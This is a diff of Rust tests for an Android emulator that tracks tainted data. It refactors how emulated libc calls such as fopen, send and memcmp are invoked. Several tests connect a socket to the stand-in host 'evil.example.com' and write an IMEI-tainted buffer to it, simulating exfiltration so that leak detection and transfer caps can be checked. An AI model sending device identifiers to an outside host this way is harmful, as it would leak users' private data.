@@ -14,6 +14,7 @@ use ndroid_apps::driver::{gated_leak_app, MonkeyRng, GATED_ENTRIES};
 use ndroid_core::{NDroidSystem, ProvenanceLevel, Snapshot, SystemConfig};
 use ndroid_emu::runtime::{HostTable, NativeCtx, MAX_TRANSFER};
 use ndroid_emu::testutil::{TrackOnly, World};
+use ndroid_libc::registry::Body;
 use std::alloc::{GlobalAlloc, Layout, System};
 use std::cell::Cell;
 
@@ -121,8 +122,9 @@ fn fread_allocations(size: usize) -> (u64, u64) {
     w.kernel.fs.insert("/data/big".into(), vec![b'x'; size]);
     w.mem.write_cstr(path, b"/data/big");
     w.mem.write_cstr(mode, b"r");
-    let file = w.call_host(fopen, &[path, mode]).unwrap();
+    let file = w.call_host(|c| fopen(c, "fopen"), &[path, mode]).unwrap();
     assert_ne!(file, 0, "fopen");
+    let fread = |c: &mut NativeCtx<'_>| fread(c, "fread");
     assert_eq!(w.call_host(fread, &[buf, 1, 64, file]), Ok(64));
     let (n, r) = allocations(|| w.call_host(fread, &[buf, 1, 64, file]));
     assert_eq!(r, Ok(64));
@@ -149,11 +151,12 @@ fn sink_calls_past_the_cap_send_the_cap_and_leak() {
     let (dest, buf) = (0x2000_0000, 0x2000_1000);
     w.mem.write_cstr(dest, b"evil.example.com");
     w.shadow.mem.set_range(buf, 4, ndroid_dvm::Taint::IMEI);
-    let fd = w.call_host(socket, &[]).unwrap();
-    assert_eq!(w.call_host(connect, &[fd, dest]), Ok(0));
-    let write = write as fn(&mut NativeCtx<'_>) -> _;
+    let fd = w.call_host(|c| socket(c, "socket"), &[]).unwrap();
+    assert_eq!(w.call_host(|c| connect(c, "connect"), &[fd, dest]), Ok(0));
+    let write = write as Body;
     for (name, sink) in [("write", write), ("send", send), ("sendto", sendto)] {
-        let ((_, bytes), r) = allocations(|| w.call_host(sink, &[fd, buf, MAX_TRANSFER + 1, 0]));
+        let args = [fd, buf, MAX_TRANSFER + 1, 0];
+        let ((_, bytes), r) = allocations(|| w.call_host(|c| sink(c, name), &args));
         assert_eq!(r, Ok(MAX_TRANSFER), "{name} sends the cap");
         let cap = u64::from(MAX_TRANSFER);
         assert!((cap..cap + 4 * 1024).contains(&bytes), "{name} allocated {bytes} bytes");
@@ -173,8 +176,9 @@ fn send_allocations(byte: u8) -> (u64, u64) {
     let (dest, buf) = (0x2000_0000, 0x2000_1000);
     w.mem.write_cstr(dest, b"evil.example.com");
     w.mem.write_bytes(buf, &[byte; 4096]);
-    let fd = w.call_host(socket, &[]).unwrap();
-    assert_eq!(w.call_host(connect, &[fd, dest]), Ok(0));
+    let fd = w.call_host(|c| socket(c, "socket"), &[]).unwrap();
+    assert_eq!(w.call_host(|c| connect(c, "connect"), &[fd, dest]), Ok(0));
+    let send = |c: &mut NativeCtx<'_>| send(c, "send");
     assert_eq!(w.call_host(send, &[fd, buf, 4096, 0]), Ok(4096));
     let (n, r) = allocations(|| w.call_host(send, &[fd, buf, 4096, 0]));
     assert_eq!(r, Ok(4096));
@@ -202,13 +206,13 @@ fn memcmp_and_memchr_of_any_size_stop_at_the_answer_in_place() {
     let (a, b, n) = (0x2000_0000, 0x3000_0010, 0xFFFF_FFFF);
     w.mem.write_bytes(a, b"abcdef");
     w.mem.write_bytes(b, b"abcxef");
-    let memcmp = memcmp as fn(&mut NativeCtx<'_>) -> _;
+    let memcmp = memcmp as Body;
     for (name, f, args, want) in [
         ("memcmp(a, b)", memcmp, [a, b, n], u32::MAX),
         ("memcmp(b, a)", memcmp, [b, a, n], 1),
         ("memchr(a, 'd')", memchr, [a, u32::from(b'd'), n], a + 3),
     ] {
-        let ((_, bytes), r) = allocations(|| w.call_host(f, &args));
+        let ((_, bytes), r) = allocations(|| w.call_host(|c| f(c, name), &args));
         assert_eq!(r, Ok(want), "{name}");
         assert!(bytes <= 4 * 1024, "{name} allocated {bytes} bytes");
     }
